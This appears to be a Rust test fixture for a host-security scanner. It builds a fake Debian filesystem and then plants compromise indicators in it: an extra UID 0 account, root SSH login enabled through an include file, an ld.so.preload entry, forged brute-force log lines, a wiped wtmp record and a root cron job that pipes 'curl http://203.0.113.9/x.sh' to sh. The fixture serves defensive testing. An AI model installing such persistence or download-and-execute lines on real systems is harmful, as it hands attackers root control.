//! A fixture root that looks like a small Debian system, clean or with one planted problem per
//! module.
#![allow(
    dead_code,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::fmt::Write as _;
use std::path::Path;

pub fn write(root: &Path, rel: &str, content: impl AsRef<[u8]>) {
    let p = root.join(rel.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, content).unwrap();
}

pub fn chmod(root: &Path, rel: &str, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        root.join(rel.trim_start_matches('/')),
        std::fs::Permissions::from_mode(mode),
    )
    .unwrap();
}

/// A clean system: accounts, sshd config through an Include, sysctl, cron, a binary dir, logs
/// with ordinary activity.
pub fn clean_root(root: &Path) {
    write(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n\
         daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
         sshd:x:105:65534::/run/sshd:/usr/sbin/nologin\n\
         alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash\n",
    );
    write(
        root,
        "etc/shadow",
        "root:$y$j9T$abcdefghijklmnopqrstuv$abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQ:20000:0:99999:7:::\n\
         daemon:*:20000:0:99999:7:::\n\
         sshd:!:20000::::::\n\
         alice:$y$j9T$bcdefghijklmnopqrstuvw$bcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQR:20000:0:99999:7:::\n",
    );
    write(
        root,
        "etc/group",
        "root:x:0:\ndaemon:x:1:\nsudo:x:27:alice\nnogroup:x:65534:\nalice:x:1000:\n",
    );
    write(
        root,
        "etc/gshadow",
        "root:*::\ndaemon:*::\nsudo:*::alice\nnogroup:*::\nalice:!::\n",
    );
    // The backups shadow's tools keep, as after the last useradd.
    for f in ["passwd", "shadow", "group", "gshadow"] {
        std::fs::copy(
            root.join("etc").join(f),
            root.join("etc").join(format!("{f}-")),
        )
        .unwrap();
    }
    chmod(root, "etc/shadow", 0o640);
    chmod(root, "etc/shadow-", 0o640);
    chmod(root, "etc/gshadow", 0o640);
    write(
        root,
        "etc/login.defs",
        "UID_MIN 1000\nUID_MAX 60000\nSYS_UID_MAX 999\nENCRYPT_METHOD YESCRYPT\n",
    );
    std::fs::create_dir_all(root.join("root")).unwrap();
    chmod(root, "root", 0o700);
    std::fs::create_dir_all(root.join("home/alice")).unwrap();
    std::os::unix::fs::chown(root.join("home/alice"), Some(1000), Some(1000)).ok();
    std::fs::create_dir_all(root.join("run/sshd")).unwrap();
    write(root, "etc/hostname", "fixture-web1\n");
    write(
        root,
        "etc/os-release",
        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n",
    );
    write(
        root,
        "etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\n\
         PermitRootLogin no\n\
         PasswordAuthentication no\n\
         KbdInteractiveAuthentication no\n\
         PermitEmptyPasswords no\n\
         UsePAM yes\n\
         X11Forwarding no\n\
         AllowTcpForwarding no\n\
         AllowAgentForwarding no\n\
         MaxAuthTries 3\n\
         ClientAliveInterval 300\n\
         ClientAliveCountMax 2\n\
         LogLevel VERBOSE\n\
         AllowGroups sudo\n\
         Subsystem sftp /usr/lib/openssh/sftp-server\n",
    );
    write(
        root,
        "etc/ssh/sshd_config.d/10-banner.conf",
        "Banner none\n",
    );
    write(
        root,
        "etc/sysctl.d/99-hardening.conf",
        "net.ipv4.ip_forward = 0\nnet.ipv4.conf.all.rp_filter = 1\nnet.ipv4.conf.default.rp_filter = 1\n\
         net.ipv4.conf.all.accept_redirects = 0\nnet.ipv4.conf.default.accept_redirects = 0\n\
         net.ipv4.conf.all.send_redirects = 0\nnet.ipv4.conf.all.accept_source_route = 0\n\
         net.ipv4.conf.all.log_martians = 1\nnet.ipv4.tcp_syncookies = 1\nkernel.kptr_restrict = 2\n\
         kernel.dmesg_restrict = 1\nkernel.randomize_va_space = 2\nkernel.yama.ptrace_scope = 1\n\
         fs.protected_hardlinks = 1\nfs.protected_symlinks = 1\nfs.suid_dumpable = 0\n\
         kernel.unprivileged_bpf_disabled = 1\n",
    );
    write(
        root,
        "etc/crontab",
        "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\
         17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n",
    );
    write(root, "etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n");
    write(root, "usr/bin/ls", b"\x7fELF fake ls binary\n");
    write(root, "usr/bin/ps", b"\x7fELF fake ps binary\n");
    chmod(root, "usr/bin/ls", 0o755);
    chmod(root, "usr/bin/ps", 0o755);
    std::os::unix::fs::symlink("usr/bin", root.join("bin")).unwrap();
    write(
        root,
        "var/log/auth.log",
        "2026-11-20T08:00:01.123456+00:00 web1 sshd[1001]: Accepted publickey for alice from 198.51.100.7 port 50111 ssh2: ED25519 SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG\n\
         2026-11-20T08:00:01.200000+00:00 web1 sshd[1001]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)\n\
         2026-11-20T08:05:00.000000+00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get update\n",
    );
    // wtmp and lastlog with alice's session, as sshd records it (the auth log's login).
    write(
        root,
        "var/log/wtmp",
        ferret_testkit::logins::binary(&clean_wtmp()),
    );
    let mut lastlog = vec![0u8; 292 * 1001];
    lastlog[292 * 1000..292 * 1000 + 4].copy_from_slice(&(ALICE_LOGIN as i32).to_le_bytes());
    lastlog[292 * 1000 + 4..292 * 1000 + 9].copy_from_slice(b"pts/0");
    lastlog[292 * 1000 + 36..292 * 1000 + 48].copy_from_slice(b"198.51.100.7");
    write(root, "var/log/lastlog", lastlog);
}

/// 2026-11-20T08:00:01Z, alice's login in the clean auth log.
const ALICE_LOGIN: i64 = 1_795_161_601;

/// The clean root's wtmp: a boot, alice's session.
fn clean_wtmp() -> Vec<ferret_testkit::logins::Rec> {
    use ferret_testkit::logins::Rec;
    vec![
        Rec::boot(ALICE_LOGIN - 86_400),
        Rec::login(b"alice", "pts/0", "198.51.100.7", 1002, ALICE_LOGIN),
        Rec::logout("pts/0", 1002, ALICE_LOGIN + 1800),
    ]
}

/// Plants one problem per module into a clean root (the baseline change is planted separately,
/// after the baseline is made).
pub fn plant(root: &Path) {
    // accounts: a second UID 0 account.
    let mut pw = std::fs::read_to_string(root.join("etc/passwd")).unwrap();
    pw.push_str("toor:x:0:0::/root:/bin/bash\n");
    write(root, "etc/passwd", pw);
    let mut sh = std::fs::read_to_string(root.join("etc/shadow")).unwrap();
    sh.push_str("toor:$y$j9T$cdefghijklmnopqrstuvwx$cdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRS:20400:0:99999:7:::\n");
    write(root, "etc/shadow", sh);
    // harden/sshd: PermitRootLogin yes reached through the Include (first value wins).
    write(
        root,
        "etc/ssh/sshd_config.d/50-cloud.conf",
        "PermitRootLogin yes\n",
    );
    // harden/persistence: ld.so.preload and a cron download-and-execute.
    write(
        root,
        "etc/ld.so.preload",
        "/usr/lib/x86_64-linux-gnu/libsystemd-shared.so.6\n",
    );
    write(
        root,
        "etc/cron.d/sysupdate",
        "*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n",
    );
    // logs: a brute force followed by a successful login from the same source.
    let mut log = std::fs::read_to_string(root.join("var/log/auth.log")).unwrap();
    for i in 0..8 {
        let _ = writeln!(
            log,
            "2026-11-21T03:10:{:02}.000000+00:00 web1 sshd[{}]: Failed password for root from 203.0.113.5 port {} ssh2",
            10 + i,
            2000 + i,
            40000 + i
        );
    }
    log.push_str("2026-11-21T03:11:05.000000+00:00 web1 sshd[2100]: Accepted password for root from 203.0.113.5 port 40100 ssh2\n");
    write(root, "var/log/auth.log", log);
    // logs (login records): root's session from the brute-forcing source, and a wiped record
    // where the intruder's second session was.
    let mut wtmp = clean_wtmp();
    wtmp.push(ferret_testkit::logins::Rec::login(
        b"root",
        "pts/1",
        "203.0.113.5",
        2101,
        ALICE_LOGIN + 69_064, // 2026-11-21T03:11:05Z
    ));
    let mut data = ferret_testkit::logins::binary(&wtmp);
    data.extend_from_slice(&[0u8; 384]);
    data.extend_from_slice(&ferret_testkit::logins::binary(&[
        ferret_testkit::logins::Rec::logout("pts/1", 2101, ALICE_LOGIN + 70_000),
    ]));
    write(root, "var/log/wtmp", data);
}
